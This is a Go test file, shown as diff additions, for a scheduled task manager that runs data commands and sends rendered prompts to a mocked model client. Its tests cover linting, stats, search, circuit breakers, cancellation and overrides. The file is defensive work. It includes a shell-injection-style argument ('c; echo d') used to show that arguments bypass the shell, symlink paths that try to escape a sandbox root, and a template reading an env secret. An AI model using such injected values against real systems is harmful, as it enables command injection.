+	if !reflect.DeepEqual(counts, map[string]int{"morning": 2, "staggered": 2, "once": 1}) {
+		t.Errorf("Unexpected upcoming runs per task: %v", counts)
+	}
+
+	// The window is capped at a week.
+	counts = make(map[string]int)
+	for _, run := range manager.Upcoming(30 * 24 * time.Hour) {
+		counts[run.Task]++
+	}
+	if counts["morning"] != 7 {
+		t.Errorf("Expected 7 runs of morning in a week, got %d", counts["morning"])
+	}
+
+	// A frequent schedule can't make the list grow without bounds.
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "minutely.toml"), []byte("name = \"minutely\"\nschedule = \"* * * * *\"\ndata_command = \"true\"\nprompt = \"hi\"\n"), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	if err := manager.ReloadTask("minutely"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	if runs := manager.Upcoming(24 * time.Hour); len(runs) != maxUpcomingRuns {
+		t.Errorf("Expected %d runs, got %d", maxUpcomingRuns, len(runs))
+	}
+}
+
+func TestLintPrompt(t *testing.T) {
+	task := &Task{
+		Name:         "lint",
+		DataCommands: map[string]DataSource{"logs": {Command: "true"}},
+	}
+	tests := []struct {
+		prompt string
+		want   []TemplateIssue
+	}{
+		{"{{.Input}} {{.Data.logs}} {{ now \"2006\" | trim }}", nil},
+		{"{{range $k, $v := .Data}}{{.}} {{$k}}{{end}}{{with .Input}}{{.Whatever}}{{end}}", nil},
+		{"Hi\n{{if .Input}}{{.Inptu}}{{end}}", []TemplateIssue{{Line: 2, Column: 15, Message: "undefined variable .Inptu: prompts can use .Input, .Data.<name>, .Vars.<name> and .Upstream"}}},
+		{"{{$.Data.metrics}}", []TemplateIssue{{Line: 1, Column: 3, Message: `undefined variable .Data.metrics: the task has no data command named "metrics"`}}},
+		{"{{.Upstream}}", []TemplateIssue{{Line: 1, Column: 2, Message: "undefined variable .Upstream: only tasks with depends_on receive an upstream response"}}},
+		{"ok\n{{.Input", []TemplateIssue{{Line: 2, Message: "unclosed action"}}},
+		{"{{ shout .Input }}", []TemplateIssue{{Line: 1, Message: `function "shout" not defined`}}},
+	}
+	for _, tt := range tests {
+		task.Prompt = tt.prompt
+		got := LintPrompt(task)
+		if len(tt.want) == 0 && len(got) == 0 {
+			continue
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("LintPrompt(%q) = %+v, want %+v", tt.prompt, got, tt.want)
+		}
+	}
+
+	// Linting runs when tasks are validated.
+	task.Schedule, task.Prompt = "@daily", "{{if .Input}}{{.Inptu}}{{end}}"
+	var verr *ValidationError
+	if err := ValidateTask(task); !errors.As(err, &verr) || len(verr.Errors) != 1 || !strings.Contains(verr.Errors[0].Message, "line 1, column 15: undefined variable .Inptu") {
+		t.Errorf("Expected ValidateTask to report the undefined variable, got %v", err)
+	}
+
+	task.Prompt = "{{ truncate .Data.logs 5 }} for {{.Input}}"
+	rendered, issue := RenderSample(task, TemplateSample{Input: "me", Data: map[string]string{"logs": "abcdefgh"}})
+	if issue != nil || rendered != "abcde for me" {
+		t.Errorf("Unexpected sample rendering %q, %v", rendered, issue)
+	}
+	task.Prompt = "{{ env \"SECRET\" }}"
+	if _, issue := RenderSample(task, TemplateSample{}); issue == nil || issue.Line != 1 || issue.Column == 0 {
+		t.Errorf("Expected a positioned render error, got %+v", issue)
+	}
+}
+
+func TestTaskStats(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	files := map[string]string{
+		"reporter": "name = \"reporter\"\ndata_command = \"echo data\"\nprompt = \"{{.Input}}\"\n",
+		"broken":   "name = \"broken\"\ndata_command = \"exit 3\"\nprompt = \"{{.Input}}\"\n",
+		"quiet":    "name = \"quiet\"\ndata_command = \"true\"\nprompt = \"{{.Input}}\"\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	runAndWait := func(name string, runs int) {
+		t.Helper()
+		if _, err := manager.RunNow(name); err != nil {
+			t.Fatalf("RunNow failed: %v", err)
+		}
+		for i := 0; i < 200; i++ {
+			if s, _ := manager.TaskStats(name); s.Runs == runs {
+				return
+			}
+			time.Sleep(5 * time.Millisecond)
+		}
+		t.Fatalf("Run %d of task %s didn't finish", runs, name)
+	}
+	runAndWait("reporter", 1)
+	runAndWait("reporter", 2)
+	runAndWait("broken", 1)
+	runAndWait("quiet", 1)
+
+	reporter, err := manager.TaskStats("reporter")
+	if err != nil {
+		t.Fatalf("TaskStats failed: %v", err)
+	}
+	if reporter.Runs != 2 || reporter.Successes != 2 || reporter.Failures != 0 || reporter.AvgResponseLength != len("mock response") || reporter.LastError != "" {
+		t.Errorf("Unexpected stats for reporter: %+v", reporter)
+	}
+	broken, _ := manager.TaskStats("broken")
+	if broken.Runs != 1 || broken.Failures != 1 || !strings.Contains(broken.LastError, "data_command failed") || broken.LastErrorAt == nil {
+		t.Errorf("Unexpected stats for broken: %+v", broken)
+	}
+	quiet, _ := manager.TaskStats("quiet")
+	if quiet.Runs != 1 || quiet.Skips != 1 || quiet.AvgDurationMs != 0 {
+		t.Errorf("Unexpected stats for quiet: %+v", quiet)
+	}
+	if s, err := manager.TaskStats("missing"); !errors.Is(err, ErrTaskNotFound) {
+		t.Errorf("Expected ErrTaskNotFound for a missing task, got %+v, %v", s, err)
+	}
+
+	// The stats survive a restart, and the removal of the run records.
+	if _, err := manager.DeleteOutputs("reporter"); err != nil {
+		t.Fatalf("DeleteOutputs failed: %v", err)
+	}
+	manager.cron.Stop()
+	restarted, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	restarted.cron.Stop()
+	if got, _ := restarted.TaskStats("reporter"); !reflect.DeepEqual(got, reporter) {
+		t.Errorf("Expected stats %+v after a restart, got %+v", reporter, got)
+	}
+
+	// Without a stats file they are rebuilt from the run records.
+	if err := os.Remove(filepath.Join(baseDir, "data/task_stats.json")); err != nil {
+		t.Fatalf("Failed to remove stats file: %v", err)
+	}
+	rebuilt, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	rebuilt.cron.Stop()
+	if got, _ := rebuilt.TaskStats("broken"); got.Runs != 1 || got.Failures != 1 || got.LastError != broken.LastError {
+		t.Errorf("Expected stats rebuilt from the run records, got %+v", got)
+	}
+	if got, _ := rebuilt.TaskStats("reporter"); got.Runs != 0 {
+		t.Errorf("Expected no stats for a task without run records, got %+v", got)
+	}
+}
+
+func TestParseOutput(t *testing.T) {
+	started := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
+	rec := RunRecord{
+		ID:         "abc",
+		Task:       "Daily Report",
+		Status:     RunStatusFailed,
+		StartedAt:  started,
+		FinishedAt: started.Add(time.Second),
+		ExitCode:   2,
+		Prompt:     "hi",
+		Response:   "partial",
+	}
+	data, _ := json.Marshal(rec)
+	h, body, ok := ParseOutput(data)
+	if !ok || body != "partial" {
+		t.Fatalf("ParseOutput(run) = %v, %q, %v", h, body, ok)
+	}
+	// Records saved before prompts were hashed get one computed.
+	if h.Format != OutputFormatRun || h.Task != "Daily Report" || h.RunID != "abc" || h.Status != RunStatusFailed ||
+		h.ExitCode == nil || *h.ExitCode != 2 || h.FinishedAt == nil || h.PromptHash != promptHash("hi") {
+		t.Errorf("Unexpected run header: %+v", h)
+	}
+
+	legacy := "--- Task Run: Daily Report ---\nTimestamp: 2024-05-01T12:00:00Z\n\n--- STDOUT ---\nline 1\nline 2\n"
+	h, body, ok = ParseOutput([]byte(legacy))
+	if !ok || body != "line 1\nline 2" {
+		t.Fatalf("ParseOutput(legacy) = %v, %q, %v", h, body, ok)
+	}
+	if h.Format != OutputFormatLegacy || h.Task != "Daily Report" || !h.StartedAt.Equal(started) || h.ExitCode != nil {
+		t.Errorf("Unexpected legacy header: %+v", h)
+	}
+
+	for _, data := range []string{"test log", "{not json", "--- Task Run: x ---\nno stdout"} {
+		if _, _, ok := ParseOutput([]byte(data)); ok {
+			t.Errorf("ParseOutput(%q) succeeded, want false", data)
+		}
+	}
+}
+
+func TestSandboxContextPath(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	root := t.TempDir()
+	outside := t.TempDir()
+	inside := filepath.Join(root, "work")
+	os.Mkdir(inside, 0755)
+	escape := filepath.Join(root, "escape")
+	os.Symlink(outside, escape)
+
+	escaping := fmt.Sprintf(`
+name = "escaping"
+schedule = "0 0 1 1 *"
+context_path = %q
+data_command = "echo hi"
+prompt = "{{.Input}}"
+`, escape)
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "escaping.toml"), []byte(escaping), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	if _, err := NewManager(baseDir, &mockA2AClient{}, stats.New(), WithSandboxRoot(filepath.Join(root, "missing"))); err == nil {
+		t.Error("Expected NewManager to fail for a missing sandbox root")
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New(), WithSandboxRoot(root))
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	for path, ok := range map[string]bool{
+		"":                          true,
+		root:                        true,
+		inside:                      true,
+		outside:                     false,
+		escape:                      false,
+		filepath.Join(inside, ".."): true,
+		filepath.Join(root, ".."):   false,
+	} {
+		err := manager.CheckContextPath(&Task{Name: "t", ContextPath: path})
+		var verr *ValidationError
+		if ok && err != nil {
+			t.Errorf("CheckContextPath(%q) = %v, want nil", path, err)
+		}
+		if !ok && (!errors.As(err, &verr) || verr.Errors[0].Field != "context_path") {
+			t.Errorf("CheckContextPath(%q) = %v, want a context_path error", path, err)
+		}
+	}
+
+	// A task stored with an escaping context_path is refused at run time.
+	runID, err := manager.RunNow("escaping")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	var rec *RunRecord
+	for i := 0; i < 200; i++ {
+		if rec, _ = manager.Run("escaping", runID); rec != nil && rec.Status != RunStatusRunning {
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	if rec == nil || rec.Status != RunStatusFailed || !strings.Contains(rec.Error, "outside the sandbox root") {
+		t.Errorf("Expected the run to be refused, got %+v", rec)
+	}
+
+	// Without a sandbox root any context path goes.
+	if err := (&Manager{}).CheckContextPath(&Task{ContextPath: outside}); err != nil {
+		t.Errorf("Expected context paths to be unrestricted by default, got %v", err)
+	}
+}
+
+func TestCircuitBreaker(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := "name = \"flaky\"\nschedule = \"0 0 1 1 *\"\ndata_command = \"exit 1\"\nprompt = \"{{.Input}}\"\nmax_consecutive_failures = 2\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "flaky.toml"), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+	task, err := manager.loadTask("flaky")
+	if err != nil {
+		t.Fatalf("loadTask failed: %v", err)
+	}
+
+	if !manager.fire(task) {
+		t.Fatal("Expected the first failure to leave the task enabled")
+	}
+	if !manager.fire(task) {
+		t.Fatal("Expected the second run to fire")
+	}
+	if manager.fire(task) {
+		t.Error("Expected the task to be disabled after 2 consecutive failures")
+	}
+	runs, _ := manager.Runs("flaky")
+	if len(runs) != 2 || !runs[0].CircuitOpened || runs[1].CircuitOpened {
+		t.Errorf("Expected only the second failure to record the circuit opening, got %+v", runs)
+	}
+	status, err := manager.Status("flaky")
+	if err != nil {
+		t.Fatalf("Status failed: %v", err)
+	}
+	if c := status.Circuit; !c.Open || c.ConsecutiveFailures != 2 || c.MaxConsecutiveFailures != 2 || c.OpenedAt == nil || c.RetryAt != nil {
+		t.Errorf("Unexpected circuit state: %+v", c)
+	}
+
+	// The state is rebuilt from the run records.
+	manager.cron.Stop()
+	os.Remove(filepath.Join(baseDir, "data/task_stats.json"))
+	manager, err = NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+	if c, _ := manager.Circuit("flaky"); !c.Open || c.ConsecutiveFailures != 2 {
+		t.Errorf("Expected the open circuit to be rebuilt, got %+v", c)
+	}
+
+	c, err := manager.EnableTask("flaky")
+	if err != nil {
+		t.Fatalf("EnableTask failed: %v", err)
+	}
+	if c.Open || c.ConsecutiveFailures != 0 || c.OpenedAt != nil {
+		t.Errorf("Expected EnableTask to close the circuit, got %+v", c)
+	}
+	if _, err := manager.EnableTask("missing"); !errors.Is(err, ErrTaskNotFound) {
+		t.Errorf("Expected ErrTaskNotFound, got %v", err)
+	}
+
+	// With a cool-down, runs resume once it passed, and another failure
+	// opens the circuit again.
+	task.FailureCooldown = "50ms"
+	manager.fire(task)
+	manager.fire(task)
+	if c := manager.circuit(task); !c.Open || c.RetryAt == nil {
+		t.Fatalf("Expected an open circuit with a retry time, got %+v", c)
+	}
+	time.Sleep(60 * time.Millisecond)
+	if !manager.fire(task) {
+		t.Fatal("Expected the task to run again after the cool-down")
+	}
+	if c := manager.circuit(task); !c.Open || c.ConsecutiveFailures != 3 {
+		t.Errorf("Expected the failed retry to open the circuit again, got %+v", c)
+	}
+
+	// Editing the task closes the circuit, and -1 never opens it.
+	task.MaxConsecutiveFailures = -1
+	task.FailureCooldown = ""
+	data, _ := toml.Marshal(task)
+	os.WriteFile(filepath.Join(baseDir, "data/tasks", "flaky.toml"), data, 0644)
+	if err := manager.ReloadTask("flaky"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	if c := manager.circuit(task); c.Open || c.ConsecutiveFailures != 0 {
+		t.Errorf("Expected editing the task to close the circuit, got %+v", c)
+	}
+	for i := 0; i < 3; i++ {
+		if !manager.fire(task) {
+			t.Fatalf("Expected a task with max_consecutive_failures = -1 to keep running")
+		}
+	}
+}
+
+func TestSearchOutputs(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	started := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
+	save := func(task, id, status, response string, age time.Duration) {
+		t.Helper()
+		rec := &RunRecord{ID: id, Task: task, Status: status, StartedAt: started.Add(-age), Response: response}
+		if err := manager.saveRun(&Task{Name: task}, rec); err != nil {
+			t.Fatalf("saveRun failed: %v", err)
+		}
+		name := rec.StartedAt.Format("2006-01-02T15-04-05") + "_" + id[:8] + ".json"
+		mtime := time.Now().Add(-age)
+		os.Chtimes(filepath.Join(baseDir, "data/task_outputs", task, name), mtime, mtime)
+	}
+	save("disk", "run00001", RunStatusSuccess, "all good\nDisk usage at 91%\nconsider cleanup", 2*time.Hour)
+	save("disk", "run00002", RunStatusSuccess, "line 1\nline 2\nDISK usage at 95%\nline 4\nline 5\nline 6", time.Hour)
+	save("disk", "run00003", RunStatusRunning, "disk usage so far", 0)
+	save("backup", "run00004", RunStatusFailed, "backup failed: disk full", 30*time.Minute)
+	legacy := filepath.Join(baseDir, "data/task_outputs/disk/2024-04-01T00-00-00.log")
+	os.WriteFile(legacy, []byte("--- Task Run: disk ---\nTimestamp: 2024-04-01T00:00:00Z\n\n--- STDOUT ---\ndisk usage at 50%\n"), 0644)
+	old := time.Now().Add(-24 * time.Hour)
+	os.Chtimes(legacy, old, old)
+
+	matches, truncated, err := manager.SearchOutputs("disk", "disk usage", 2, 10)
+	if err != nil || truncated {
+		t.Fatalf("SearchOutputs = %v, %v", truncated, err)
+	}
+	if len(matches) != 3 {
+		t.Fatalf("Expected 3 matches, newest first, skipping the running run, got %+v", matches)
+	}
+	first := matches[0]
+	if first.RunID != "run00002" || first.Line != 3 || first.Text != "DISK usage at 95%" ||
+		!reflect.DeepEqual(first.Before, []string{"line 1", "line 2"}) || !reflect.DeepEqual(first.After, []string{"line 4", "line 5"}) ||
+		!first.Timestamp.Equal(started.Add(-time.Hour)) {
+		t.Errorf("Unexpected first match: %+v", first)
+	}
+	if matches[1].RunID != "run00001" || matches[2].File != "2024-04-01T00-00-00.log" || matches[2].Line != 5 {
+		t.Errorf("Unexpected matches: %+v", matches)
+	}
+
+	// Across tasks, with a limit.
+	matches, truncated, err = manager.SearchOutputs("", "disk", 0, 2)
+	if err != nil || !truncated || len(matches) != 2 || matches[0].Task != "backup" || matches[1].RunID != "run00002" {
+		t.Errorf("Unexpected limited search: %+v, %v, %v", matches, truncated, err)
+	}
+	if len(matches[0].Before) != 0 || len(matches[0].After) != 0 {
+		t.Errorf("Expected no context lines, got %+v", matches[0])
+	}
+
+	if _, _, err := manager.SearchOutputs("missing", "disk", 2, 10); !errors.Is(err, ErrTaskNotFound) {
+		t.Errorf("Expected ErrTaskNotFound, got %v", err)
+	}
+}
+
+func TestGrepLinesLimit(t *testing.T) {
+	var got []string
+	more, err := grepLines(strings.NewReader("a x\nb\nc x\nd\ne x\nf"), "x", 1, 2, func(line int, before []string, text string, after []string) {
+		got = append(got, fmt.Sprintf("%d:%v|%s|%v", line, before, text, after))
+	})
+	want := []string{"1:[]|a x|[b]", "3:[b]|c x|[d]"}
+	if err != nil || !more || !reflect.DeepEqual(got, want) {
+		t.Errorf("grepLines = %v, %v, %v; want %v, true", got, more, err, want)
+	}
+}
+
+func TestActiveRuns(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	gate := make(chan struct{})
+	defer close(gate)
+	manager, err := NewManager(baseDir, &mockA2AClient{chunks: []string{"partial ", "never sent"}, gate: gate}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	waitFor := func(phase string) ActiveRun {
+		t.Helper()
+		for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
+			if runs := manager.ActiveRuns(); len(runs) == 1 && runs[0].Phase == phase {
+				return runs[0]
+			}
+		}
+		t.Fatalf("No run in phase %s, got %+v", phase, manager.ActiveRuns())
+		return ActiveRun{}
+	}
+	start := func(task *Task, runID string) chan struct{} {
+		done := make(chan struct{})
+		go func() {
+			manager.runTask(task, runID, nil)
+			close(done)
+		}()
+		return done
+	}
+
+	// Cancelling a data_command kills it.
+	sleeper := &Task{Name: "sleeper", DataCommand: "sleep 30", Prompt: "{{.Input}}"}
+	done := start(sleeper, "run-1")
+	run := waitFor(PhaseDataCommand)
+	if run.RunID != "run-1" || run.Task != "sleeper" || run.StartedAt.IsZero() {
+		t.Errorf("Unexpected active run: %+v", run)
+	}
+	if _, err := manager.CancelRun("run-1"); err != nil {
+		t.Fatalf("CancelRun failed: %v", err)
+	}
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("Cancelled data_command still running")
+	}
+	runs, _ := manager.Runs("sleeper")
+	if len(runs) != 1 || runs[0].Status != RunStatusCancelled || !strings.Contains(runs[0].Error, ErrRunCancelled.Error()) {
+		t.Errorf("Expected a cancelled run, got %+v", runs)
+	}
+	if stats, _ := manager.TaskStats("sleeper"); stats.Cancellations != 1 || stats.Failures != 0 || stats.Successes != 0 {
+		t.Errorf("Unexpected stats: %+v", stats)
+	}
+
+	// Cancelling the model call keeps the partial response.
+	waiter := &Task{Name: "waiter", DataCommand: "echo hi", Prompt: "{{.Input}}"}
+	done = start(waiter, "run-2")
+	waitFor(PhaseModelCall)
+	manager.CancelRun("run-2")
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("Cancelled model call still running")
+	}
+	runs, _ = manager.Runs("waiter")
+	if len(runs) != 1 || runs[0].Status != RunStatusCancelled || runs[0].Response != "partial " {
+		t.Errorf("Expected a cancelled run with a partial response, got %+v", runs)
+	}
+
+	if runs := manager.ActiveRuns(); len(runs) != 0 {
+		t.Errorf("Expected no active runs, got %+v", runs)
+	}
+	if _, err := manager.CancelRun("run-1"); !errors.Is(err, ErrRunNotActive) {
+		t.Errorf("Expected ErrRunNotActive, got %v", err)
+	}
+}
+
+func TestCommandForms(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	tasks := []struct {
+		task   *Task
+		prompt string
+	}{
+		// Arguments are passed as they are, without a shell.
+		{&Task{Name: "argv", DataArgv: []string{"printf", "%s|%s", "a b", "c; echo d"}, Prompt: "{{.Input}}"}, "a b|c; echo d"},
+		{&Task{Name: "sh", Shell: ShellSh, DataCommand: `echo "$0"`, Prompt: "{{.Input}}"}, "sh"},
+		{&Task{Name: "sources", DataCommands: map[string]DataSource{
+			"direct": {Argv: []string{"echo", "$HOME"}},
+			"shell":  {Command: "echo one two | wc -w"},
+		}, Prompt: "{{.Data.direct}} {{.Data.shell}}"}, "$HOME 2"},
+	}
+	for _, tt := range tasks {
+		tt.task.Schedule = "@daily"
+		if err := ValidateTask(tt.task); err != nil {
+			t.Errorf("%s: expected a valid task, got %v", tt.task.Name, err)
+		}
+		manager.runTask(tt.task, "run-1", nil)
+		runs, _ := manager.Runs(tt.task.Name)
+		if len(runs) != 1 || runs[0].Status != RunStatusSuccess || runs[0].Prompt != tt.prompt {
+			t.Errorf("%s: expected a successful run with prompt %q, got %+v", tt.task.Name, tt.prompt, runs)
+		}
+	}
+
+	invalid := []struct {
+		task  *Task
+		field string
+	}{
+		{&Task{Name: "a", Shell: "zsh", DataCommand: "echo hi"}, "shell"},
+		{&Task{Name: "b", DataArgv: []string{"no-such-program-here"}}, "data_argv"},
+		{&Task{Name: "c", DataArgv: []string{"echo"}, DataCommand: "echo hi"}, "data_argv"},
+		{&Task{Name: "d", DataArgv: []string{"./collect.py"}, ContextPath: t.TempDir()}, "data_argv"},
+		{&Task{Name: "e", DataCommands: map[string]DataSource{"x": {Command: "echo", Argv: []string{"echo"}}}}, "data_commands.x.argv"},
+		// The shell is looked up in the PATH the task's commands get.
+		{&Task{Name: "f", DataCommand: "echo hi", Env: map[string]string{"PATH": t.TempDir()}}, "shell"},
+	}
+	for _, tt := range invalid {
+		tt.task.Schedule, tt.task.Prompt = "@daily", "{{.Input}}"
+		var verr *ValidationError
+		if err := ValidateTask(tt.task); !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Field != tt.field {
+			t.Errorf("%s: expected one error for %s, got %v", tt.task.Name, tt.field, err)
+		}
+	}
+
+	// A program that went missing since the task was saved fails the run.
+	gone := &Task{Name: "gone", DataArgv: []string{"no-such-program-here"}, Prompt: "{{.Input}}"}
+	manager.runTask(gone, "run-1", nil)
+	runs, _ := manager.Runs("gone")
+	if len(runs) != 1 || runs[0].Status != RunStatusFailed || !strings.Contains(runs[0].Error, "not found in PATH") {
+		t.Errorf("Expected a failed run, got %+v", runs)
+	}
+}
+
+func TestStop(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	write := func(name, command string) {
+		content := fmt.Sprintf("name = %q\nschedule = \"@daily\"\ndata_command = %q\nprompt = \"{{.Input}}\"\n", name, command)
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write task file: %v", err)
+		}
+	}
+	write("slow", "sleep 0.3; echo hello")
+	write("stuck", "sleep 30")
+	waitActive := func(manager *Manager) {
+		t.Helper()
+		for deadline := time.Now().Add(5 * time.Second); len(manager.ActiveRuns()) == 0; time.Sleep(10 * time.Millisecond) {
+			if time.Now().After(deadline) {
+				t.Fatal("The run didn't start")
+			}
+		}
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	runID, err := manager.RunNow("slow")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	waitActive(manager)
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	if err := manager.Stop(ctx); err != nil {
+		t.Fatalf("Stop failed: %v", err)
+	}
+	// The run finished and saved its output before Stop returned.
+	rec, err := manager.Run("slow", runID)
+	if err != nil || rec.Status != RunStatusSuccess || rec.Response != "mock response" || rec.Prompt != "hello" {
+		t.Errorf("Expected the run's output saved, got %+v (%v)", rec, err)
+	}
+	if _, err := manager.RunNow("slow"); !errors.Is(err, ErrStopping) {
+		t.Errorf("Expected ErrStopping for a run after Stop, got %v", err)
+	}
+
+	// Runs still going when the context ends are cancelled and recorded.
+	manager, err = NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	runID, err = manager.RunNow("stuck")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	waitActive(manager)
+	ctx, cancel = context.WithTimeout(context.Background(), 50*time.Millisecond)
+	defer cancel()
+	if err := manager.Stop(ctx); !errors.Is(err, context.DeadlineExceeded) {
+		t.Errorf("Expected Stop to time out, got %v", err)
+	}
+	if rec, err := manager.Run("stuck", runID); err != nil || rec.Status != RunStatusCancelled {
+		t.Errorf("Expected the run recorded as cancelled, got %+v (%v)", rec, err)
+	}
+}
+
+func TestRunOverrides(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	def := "name = \"report\"\nschedule = \"@daily\"\ndata_command = \"echo stored\"\nprompt = \"{{.Vars.region}}: {{.Input}}\"\n[vars]\nregion = \"eu\"\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks/report.toml"), []byte(def), 0644); err != nil {
+		t.Fatalf("Failed to write task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	wait := func(runID string) *RunRecord {
+		t.Helper()
+		for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
+			if rec, err := manager.Run("report", runID); err == nil && rec.Status != RunStatusRunning {
+				if running, _ := manager.RunningRuns("report"); len(running) == 0 {
+					return rec
+				}
+			}
+		}
+		t.Fatalf("Run %s didn't finish", runID)
+		return nil
+	}
+
+	overrides := &RunOverrides{DataCommand: "echo override", Vars: map[string]string{"region": "us"}}
+	runID, err := manager.RunWithOverrides("report", overrides)
+	if err != nil {
+		t.Fatalf("RunWithOverrides failed: %v", err)
+	}
+	rec := wait(runID)
+	if rec.Status != RunStatusSuccess || rec.Prompt != "us: override" || !reflect.DeepEqual(rec.Overrides, overrides) {
+		t.Errorf("Expected a run with the overrides recorded, got %+v", rec)
+	}
+
+	// The definition is untouched, and later runs use it.
+	if task, _ := manager.loadTask("report"); task.DataCommand != "echo stored" || task.Vars["region"] != "eu" {
+		t.Errorf("Expected the stored task unchanged, got %+v", task)
+	}
+	runID, err = manager.RunNow("report")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	if rec := wait(runID); rec.Prompt != "eu: stored" || rec.Overrides != nil {
+		t.Errorf("Expected a run of the stored task, got %+v", rec)
+	}
+
+	result, err := manager.DryRunWithOverrides("report", &RunOverrides{Vars: map[string]string{"region": "apac"}})
+	if err != nil || result.Prompt != "apac: stored" {
+		t.Errorf("Expected a dry run with the overrides, got %+v (%v)", result, err)
+	}
+
+	// Overrides are validated like a saved task.
+	for _, tc := range []struct {
+		field     string
+		overrides RunOverrides
+	}{
+		{"vars.zone", RunOverrides{Vars: map[string]string{"zone": "x"}}},
+		{"data_command", RunOverrides{DataCommand: "   "}},
+	} {
+		var verr *ValidationError
+		if _, err := manager.RunWithOverrides("report", &tc.overrides); !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Field != tc.field {
+			t.Errorf("Expected a %s error, got %v", tc.field, err)
+		}
+	}
+	if runs, _ := manager.Runs("report"); len(runs) != 2 {
+		t.Errorf("Expected refused overrides not to run, got %d runs", len(runs))
+	}
+
+	// Prompts may only use the variables the task declares.
+	task := &Task{Name: "x", Schedule: "@daily", DataCommand: "echo hi", Prompt: "{{.Vars.zone}}", Vars: map[string]string{"region": "eu"}}
+	var verr *ValidationError
+	if err := ValidateTask(task); !errors.As(err, &verr) || verr.Errors[0].Field != "prompt" || !strings.Contains(verr.Errors[0].Message, ".Vars.zone") {
+		t.Errorf("Expected a prompt error for an undeclared variable, got %v", err)
+	}
+}